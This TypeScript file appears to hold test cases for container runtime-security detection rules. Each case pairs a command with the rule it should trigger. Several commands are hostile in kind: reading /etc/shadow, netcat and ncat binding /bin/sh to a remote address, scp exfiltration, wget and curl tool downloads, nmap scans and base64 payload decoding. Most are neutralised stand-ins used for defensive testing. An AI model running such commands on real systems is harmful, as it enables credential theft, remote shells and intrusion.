/** Programs that nobody expects in a container. */

import { plain } from '../container-facts.ts';
import { PLAIN_NAME } from '../container-fixture.ts';
import type { LiveCase } from '../live-case.ts';
import { quoted } from '../shell-text.ts';

export const cases: readonly LiveCase[] = [
  {
    name: 'the shadow file of the container',
    rule: 'Read sensitive file untrusted',
    place: 'container',
    run: 'cat /etc/shadow; :',
    fields: {
      ...plain,
      'fd.name': '/etc/shadow',
      'proc.name': 'cat',
      'proc.pname': 'bash',
      'proc.vpid': { above: 1 },
      'user.name': 'root',
    },
  },
  {
    name: 'through the root of the first process',
    rule: 'Read sensitive file untrusted',
    place: 'container',
    run: 'cat /proc/1/root/etc/shadow',
    fields: { 'fd.name': '/etc/shadow', 'container.name': PLAIN_NAME },
  },
  {
    name: 'apt',
    rule: 'Launch Package Management Process in Container',
    place: 'container',
    run: 'as apt true update',
    fields: { ...plain, 'proc.cmdline': 'apt update', 'proc.exepath': '/usr/bin/true' },
  },
  {
    name: 'apt on the host',
    rule: 'Launch Package Management Process in Container',
    quiet: true,
    run: 'as apt true update',
  },
  {
    name: 'nmap',
    rule: 'Launch Suspicious Network Tool in Container',
    place: 'container',
    run: 'as nmap true 203.0.113.0/24',
    fields: { ...plain, 'proc.cmdline': 'nmap 203.0.113.0/24' },
  },
  {
    name: 'netcat in a container is not on the host',
    rule: 'Launch Suspicious Network Tool on Host',
    place: 'container',
    quiet: true,
    run: 'as nc true -l 4444',
  },
  {
    name: 'nc -e',
    rule: 'Netcat Remote Code Execution in Container',
    place: 'container',
    run: 'as nc true -e /bin/sh 203.0.113.9 4444',
    fields: { ...plain, 'proc.cmdline': 'nc -e /bin/sh 203.0.113.9 4444' },
  },
  {
    name: 'ncat --exec',
    rule: 'Netcat Remote Code Execution in Container',
    place: 'container',
    run: 'as ncat true --exec /bin/sh -l 4444',
    fields: { 'proc.name': 'ncat' },
  },
  {
    name: 'nc that listens',
    rule: 'Netcat Remote Code Execution in Container',
    place: 'container',
    quiet: true,
    run: 'as nc true -l 4444',
  },
  {
    name: 'below npm',
    rule: 'Network Tool Executed During NPM Package Install',
    place: 'container',
    run: `ln -s /usr/bin/true nmap; as npm perl -e ${quoted('system("./nmap"); 1')}`,
    fields: { ...plain, 'proc.name': 'nmap', 'proc.pname': 'npm' },
  },
  {
    name: 'scp',
    rule: 'Launch Remote File Copy Tools in Container',
    place: 'container',
    run: 'as scp true notes 203.0.113.9:',
    fields: { ...plain, 'proc.name': 'scp' },
  },
  {
    name: 'wget',
    rule: 'Launch Ingress Remote File Copy Tools in Container',
    place: 'container',
    run: 'as wget true http://example.test/tool',
    fields: { ...plain, 'proc.name': 'wget' },
  },
  {
    name: 'curl into a file',
    rule: 'Launch Ingress Remote File Copy Tools in Container',
    place: 'container',
    run: 'as curl true -o tool http://example.test/tool',
    fields: { 'proc.name': 'curl' },
  },
  {
    name: 'curl to the terminal',
    rule: 'Launch Ingress Remote File Copy Tools in Container',
    place: 'container',
    quiet: true,
    run: 'as curl true http://example.test/tool',
  },
  {
    name: 'kubectl',
    rule: 'Kubernetes Client Tool Launched in Container',
    place: 'container',
    run: 'as kubectl true get pods',
    fields: { ...plain, 'proc.cmdline': 'kubectl get pods' },
  },
  {
    name: 'by base64',
    rule: 'Decoding Payload in Container',
    place: 'container',
    run: 'base64 -d </dev/null; :',
    fields: { ...plain, 'proc.cmdline': 'base64 -d' },
  },
  {
    name: 'base64 that encodes',
    rule: 'Decoding Payload in Container',
    place: 'container',
    quiet: true,
    run: 'base64 </dev/null; :',
  },
];
